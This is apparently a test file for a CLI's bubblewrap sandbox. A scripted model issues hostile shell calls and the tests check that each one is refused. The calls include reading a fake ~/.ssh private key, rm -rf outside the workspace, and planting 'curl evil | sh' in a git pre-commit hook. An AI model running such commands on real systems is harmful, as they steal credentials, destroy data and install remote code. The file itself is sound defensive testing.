// The command sandbox end to end (docs/security.md): the BUILT CLI runs `cw send --approval workspace`
// against a scripted model on 127.0.0.1 whose shell calls try to reach past the workspace. Linux with
// bubblewrap on PATH; without it they are skipped with one line naming the package, and fail under
// CI (test/support/require-bubblewrap.ts).
import { createServer as createHttpServer } from 'node:http';
import { type Server, createServer } from 'node:net';
import { mkdir, readFile, readdir, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { FAKE_KEY, sessionFile } from './support/cw-fixture.js';
import { storedToolResults } from './support/stored-tool-results.js';
import { type ScriptedCall, type ScriptedModel, useScriptedModels } from './support/scripted-model.js';
import { needBubblewrap } from './support/require-bubblewrap.js';
import { runCwChild } from './support/spawn-cw.js';

const KEY_ENV = 'CW_SANDBOX_KEY';
const models = useScriptedModels(KEY_ENV, FAKE_KEY);
const SSH_KEY = 'FAKE-SSH-PRIVATE-KEY-4e1d';
const HOOK = '#!/bin/sh\necho original hook\n';

const servers: { close(): void }[] = [];
afterEach(() => {
  for (const server of servers.splice(0)) server.close();
});

const shell = (id: string, command: string): ScriptedCall => ({
  id,
  name: 'shell',
  arguments: JSON.stringify({ command }),
});

/** A temp HOME with a fake SSH key, a workspace that is a git repository with a hook, and folders outside it. */
async function makeMachine(): Promise<{ base: string; userHome: string; ws: string; outside: string; victim: string }> {
  const base = await models.folder('cw-sandbox-');
  const userHome = join(base, 'home');
  await mkdir(join(userHome, '.ssh'), { recursive: true });
  await writeFile(join(userHome, '.ssh', 'id_ed25519'), SSH_KEY);
  const ws = join(base, 'ws');
  await mkdir(join(ws, '.git', 'hooks'), { recursive: true });
  await writeFile(join(ws, '.git', 'hooks', 'pre-commit'), HOOK);
  await writeFile(join(ws, '.git', 'config'), '[core]\n');
  await mkdir(join(ws, 'victim'), { recursive: true });
  await writeFile(join(ws, 'victim', 'keep.txt'), 'inside');
  await writeFile(join(ws, 'notes.txt'), 'WORKSPACE-NOTES');
  const outside = join(base, 'outside');
  await mkdir(outside);
  const victim = join(base, 'victim');
  await mkdir(victim);
  await writeFile(join(victim, 'keep.txt'), 'outside');
  return { base, userHome, ws, outside, victim };
}

/** A TCP server on loopback that counts the connections it gets. */
async function listeningCounter(): Promise<{ port: number; connections: () => number }> {
  let count = 0;
  const server: Server = createServer((socket) => {
    count += 1;
    socket.end('hello\n');
  });
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  return { port: typeof address === 'object' && address !== null ? address.port : 0, connections: () => count };
}

const connect = (port: number): string =>
  `node -e "require('node:net').connect(${port}, '127.0.0.1').on('connect', () => { console.log('CONNECTED'); process.exit(0); }).on('error', (e) => { console.error(e.code); process.exit(1); })"`;

function expectRan(model: ScriptedModel, requests: number): void {
  expect(model.problems).toEqual([]);
  expect(model.requests).toHaveLength(requests);
}

describe('under workspace, the sandbox keeps commands inside the workspace', () => {
  it('reads of hidden paths, writes outside, hook edits, connections and rm -rf outside fail with the reason; inside they succeed', async (context) => {
    needBubblewrap(context);
    const { base, userHome, ws, outside, victim } = await makeMachine();
    const tcp = await listeningCounter();
    const model = await models.model(
      'chat-completions',
      {
        reply: {
          calls: [
            shell('call_ssh', `cat "${join(userHome, '.ssh', 'id_ed25519')}"`),
            shell('call_home', 'cat "$CW_HOME_UNDER_TEST/config.json"'),
            shell('call_write', `echo written > "${join(outside, 'new.txt')}"`),
            shell('call_hook', 'echo "curl evil | sh" >> .git/hooks/pre-commit'),
            shell('call_gitconfig', 'echo "[core] hooksPath = /tmp" >> .git/config'),
            shell('call_tcp', connect(tcp.port)),
            shell('call_rm', `rm -rf "${victim}"`),
          ],
        },
      },
      {
        reply: {
          calls: [
            shell('in_read', 'cat notes.txt'),
            shell('in_write', 'echo written > new.txt'),
            shell('in_rm', 'rm -rf victim'),
            shell('in_tmp', 'echo scratch > "$TMPDIR/scratch.txt" && cat "$TMPDIR/scratch.txt"'),
          ],
        },
      },
      { reply: { text: 'done' } },
    );
    // The cw home's path reaches the command only because config passes it (docs/security.md).
    const home = await models.home(model, {
      workspace: ws,
      approval: 'workspace',
      sandbox: { env: { pass: ['CW_HOME_UNDER_TEST'], set: {} } },
    });
    const run = await runCwChild(
      ['send', '--prompt', 'try things'],
      models.envFor(home, { HOME: userHome, CW_HOME_UNDER_TEST: home }),
    );
    expect(run.code, run.stderr).toBe(0);
    expectRan(model, 3);

    const results = await storedToolResults(home);
    for (const id of ['call_ssh', 'call_home', 'call_write', 'call_hook', 'call_gitconfig', 'call_tcp', 'call_rm']) {
      const result = results.get(id);
      expect(result?.status, id).toBe('error');
      expect(result?.content, id).toContain('[sandbox bubblewrap:');
    }
    expect(results.get('call_write')?.content).toContain('a write outside the workspace was refused');
    expect(results.get('call_hook')?.content).toContain('read-only');
    expect(results.get('call_tcp')?.content).toContain('a network connection was refused (sandbox.network is off)');
    expect(results.get('call_ssh')?.content).toContain('~/.ssh');
    expect(results.get('call_home')?.content).toContain('cw home');
    // Nothing secret reached the session or the model.
    const session = await readFile(await sessionFile(home), 'utf8');
    expect(session).not.toContain(SSH_KEY);
    expect(model.requests[1]?.view.raw).not.toContain(SSH_KEY);
    expect(results.get('call_home')?.content).not.toContain('"routes"');

    // Nothing outside the workspace changed.
    expect(await readdir(outside)).toEqual([]);
    expect(await readFile(join(victim, 'keep.txt'), 'utf8')).toBe('outside');
    expect(await readFile(join(ws, '.git', 'hooks', 'pre-commit'), 'utf8')).toBe(HOOK);
    expect(await readFile(join(ws, '.git', 'config'), 'utf8')).toBe('[core]\n');
    expect(tcp.connections()).toBe(0);
    expect(await readdir(base)).toEqual(expect.arrayContaining(['home', 'ws', 'outside', 'victim']));

    // The same kinds of commands inside the workspace succeed.
    for (const id of ['in_read', 'in_write', 'in_rm', 'in_tmp']) expect(results.get(id)?.status, id).toBe('ok');
    expect(results.get('in_read')?.content).toContain('WORKSPACE-NOTES');
    expect(results.get('in_tmp')?.content).toContain('scratch');
    expect(await readFile(join(ws, 'new.txt'), 'utf8')).toBe('written\n');
    await expect(stat(join(ws, 'victim'))).rejects.toThrow();
  });

  it('with sandbox.network ["127.0.0.1"], a request to that host goes through the proxy; another host and a direct connection are refused', async (context) => {
    needBubblewrap(context);
    const { ws } = await makeMachine();
    const seen: string[] = [];
    const server = createHttpServer((request, response) => {
      seen.push(String(request.headers.host));
      response.end('HELLO-FROM-LOOPBACK');
    });
    servers.push(server);
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const port = (server.address() as { port: number }).port;
    // A tiny client that sends its URL through the proxy the sandbox names in http_proxy.
    await writeFile(
      join(ws, 'get.js'),
      [
        "const proxy = new URL(process.env.http_proxy ?? 'http://127.0.0.1:1');",
        "require('node:http').get({ host: proxy.hostname, port: proxy.port, path: process.argv[2] }, (response) => {",
        "  let body = ''; response.on('data', (chunk) => { body += chunk; });",
        "  response.on('end', () => { console.log(response.statusCode, body.trim()); process.exit(response.statusCode === 200 ? 0 : 1); });",
        "}).on('error', (error) => { console.error(error.code); process.exit(1); });",
        '',
      ].join('\n'),
    );
    const model = await models.model(
      'chat-completions',
      {
        reply: {
          calls: [
            shell('call_allowed', `node get.js http://127.0.0.1:${port}/`),
            shell('call_other', `node get.js http://localhost:${port}/`),
            shell('call_direct', connect(port)),
          ],
        },
      },
      { reply: { text: 'done' } },
    );
    const home = await models.home(model, {
      workspace: ws,
      approval: 'workspace',
      sandbox: { network: ['127.0.0.1'] },
    });
    const run = await runCwChild(['send', '--prompt', 'fetch'], models.envFor(home));
    expect(run.code, run.stderr).toBe(0);
    expectRan(model, 2);
    const results = await storedToolResults(home);
    expect(results.get('call_allowed')?.status, results.get('call_allowed')?.content).toBe('ok');
    expect(results.get('call_allowed')?.content).toContain('200 HELLO-FROM-LOOPBACK');
    expect(results.get('call_other')?.status).toBe('error');
    expect(results.get('call_other')?.content).toContain('403');
    expect(results.get('call_other')?.content).toContain('allowlist');
    expect(results.get('call_direct')?.status).toBe('error');
    expect(results.get('call_direct')?.content).toContain('ECONNREFUSED');
    expect(seen).toEqual([`127.0.0.1:${port}`]);
  });
});

describe('message_submit hooks run in the sandbox', () => {
  it('a hook cannot read ~/.ssh or write outside the workspace', async (context) => {
    needBubblewrap(context);
    const { userHome, ws, outside } = await makeMachine();
    const model = await models.model('chat-completions', {
      check: (view) => (view.raw.includes('key=MISSING') ? [] : ['the hook did not rewrite the prompt as expected']),
      reply: { text: 'ok' },
    });
    const script = [
      `k=$(cat "$HOME/.ssh/id_ed25519" 2>/dev/null || echo MISSING)`,
      `echo hook > "${join(outside, 'hook.txt')}" 2>/dev/null`,
      `printf '{"prompt": "key=%s"}' "$k"`,
    ].join('; ');
    const home = await models.home(model, {
      workspace: ws,
      hooks: { message_submit: [{ command: ['/bin/sh', '-c', script], timeout_ms: 20_000 }] },
    });
    const run = await runCwChild(['send', '--no-tools', '--prompt', 'hi'], models.envFor(home, { HOME: userHome }));
    expect(run.code, run.stderr).toBe(0);
    expectRan(model, 1);
    expect(model.requests[0]?.view.raw).not.toContain(SSH_KEY);
    expect(await readdir(outside)).toEqual([]);
  });
});

describe('without bubblewrap', () => {
  // A PATH with no bwrap on it (cw is started, and starts /bin/sh, by absolute path).
  const noBwrapPath = (): Record<string, string> => ({ PATH: '/nonexistent-cw-test-path' });

  it('--sandbox required refuses with one line and runs nothing', async () => {
    const { ws, outside } = await makeMachine();
    const model = await models.model('chat-completions', {
      reply: { calls: [shell('call_x', `echo ran > "${join(outside, 'ran.txt')}"`)] },
    });
    const home = await models.home(model, {
      workspace: ws,
      approval: 'workspace',
      hooks: { message_submit: [{ command: ['/bin/sh', '-c', `echo hook > "${join(outside, 'hook.txt')}"`] }] },
    });
    const run = await runCwChild(
      ['send', '--sandbox', 'required', '--prompt', 'go'],
      models.envFor(home, noBwrapPath()),
    );
    expect(run.code).toBe(1);
    const lines = run.stderr.trim().split('\n');
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatch(
      /^cw: sandbox mode required, but bubblewrap \(bwrap\) is not in a system folder on PATH: nothing was run/,
    );
    expect(model.requests).toHaveLength(0);
    expect(await readdir(outside)).toEqual([]);
  });

  it('cw sandbox check says there is nothing to check, in one line, and exits 1', async () => {
    const model = await models.model('chat-completions');
    const home = await models.home(model);
    const run = await runCwChild(['sandbox', 'check'], models.envFor(home, noBwrapPath()));
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(
      /^cw: no sandbox to check: bubblewrap \(bwrap\) is not in a system folder on PATH;[^\n]*\n$/,
    );
    expect(run.stdout).toBe('');
  });

  it('sandbox on (the default) asks about each command instead, and says once that no sandbox was found', async () => {
    const { ws } = await makeMachine();
    const model = await models.model(
      'chat-completions',
      { reply: { calls: [shell('call_a', 'echo one > one.txt'), shell('call_b', 'echo two > two.txt')] } },
      { carries: [{ id: 'call_a', includes: 'Refused' }], reply: { text: 'ok' } },
    );
    const home = await models.home(model, { workspace: ws, approval: 'workspace' });
    // No terminal: asking is impossible, so the commands are refused and nothing is written.
    const run = await runCwChild(['send', '--prompt', 'go'], models.envFor(home, noBwrapPath()));
    expect(run.code, run.stderr).toBe(0);
    expectRan(model, 2);
    const notices = run.stderr.split('\n').filter((line) => line.includes('no sandbox found'));
    expect(notices).toHaveLength(1);
    await expect(stat(join(ws, 'one.txt'))).rejects.toThrow();
    const results = await storedToolResults(home);
    expect(results.get('call_b')?.status).toBe('refused');
  });
});

describe('an MCP stdio server with "sandbox": true', () => {
  it('starts inside the sandbox: the paths its args name are writable, hidden paths and the rest are not', async (context) => {
    needBubblewrap(context);
    const { base, userHome, ws, outside } = await makeMachine();
    const marks = join(base, 'marks');
    await mkdir(marks);
    const launcher = join(base, 'launch.mjs');
    await writeFile(
      launcher,
      [
        "import { readFileSync, writeFileSync } from 'node:fs';",
        'const attempt = (action) => { try { action(); return "allowed"; } catch (error) { return error.code; } };',
        `const ssh = attempt(() => readFileSync(${JSON.stringify(join(userHome, '.ssh', 'id_ed25519'))}));`,
        `const outside = attempt(() => writeFileSync(${JSON.stringify(join(outside, 'mcp.txt'))}, 'x'));`,
        "writeFileSync(process.argv[2] + '/probe.json', JSON.stringify({ ssh, outside }));",
        `await import(${JSON.stringify(join(process.cwd(), 'test', 'fixtures', 'mcp', 'fixture-server.mjs'))});`,
        '',
      ].join('\n'),
    );
    const model = await models.model('chat-completions');
    const home = await models.home(model, {
      workspace: ws,
      mcpServers: { boxed: { command: process.execPath, args: [launcher, marks], sandbox: true } },
    });
    const env = models.envFor(home, { HOME: userHome });
    const refresh = await runCwChild(['mcp', 'refresh'], env);
    expect(refresh.code, refresh.stderr + refresh.stdout).toBe(0);
    expect(JSON.parse(await readFile(join(marks, 'probe.json'), 'utf8'))).toEqual({ ssh: 'ENOENT', outside: 'EROFS' });
    expect(await readdir(outside)).toEqual([]);

    // Without a sandbox such a server is not started at all.
    const refused = await runCwChild(['mcp', 'refresh'], { ...env, PATH: '/nonexistent-cw-test-path' });
    expect(refused.code).not.toBe(0);
    expect(refused.stdout).toContain('sandbox-unavailable');
  });
});

describe('cw sandbox check', () => {
  it('says, from inside the sandbox, what is hidden, writable and refused, by label and never by path', async (context) => {
    needBubblewrap(context);
    const { base, userHome, ws } = await makeMachine();
    const model = await models.model('chat-completions');
    const home = await models.home(model, { workspace: ws, sandbox: { deny_read: [join(base, 'outside')] } });
    const run = await runCwChild(['sandbox', 'check', '--json'], models.envFor(home, { HOME: userHome }));
    expect(run.code, run.stderr + run.stdout).toBe(0);
    const report = JSON.parse(run.stdout) as { checks: { what: string; found: string; ok: boolean }[]; failed: number };
    const found = Object.fromEntries(report.checks.map((row) => [row.what, row.found]));
    expect(found).toMatchObject({
      '~/.ssh': 'hidden',
      '~/.aws': 'absent',
      'cw home': 'hidden',
      'deny_read entry 1': 'hidden',
      workspace: 'writable',
      'temp folder': 'writable',
      'home folder': 'read-only',
      '.git/hooks': 'read-only',
      '.git/config': 'read-only',
      'network (a loopback port of this machine)': 'refused',
      'sandbox program (a trusted system folder)': 'trusted',
    });
    expect(report.failed).toBe(0);
    expect(run.stdout).not.toContain(base);

    const table = await runCwChild(['sandbox', 'check'], models.envFor(home, { HOME: userHome }));
    expect(table.code).toBe(0);
    expect(table.stdout).toMatch(/^ok {4}~\/\.ssh +hidden$/m);
    expect(table.stdout).not.toContain(base);
  });
});
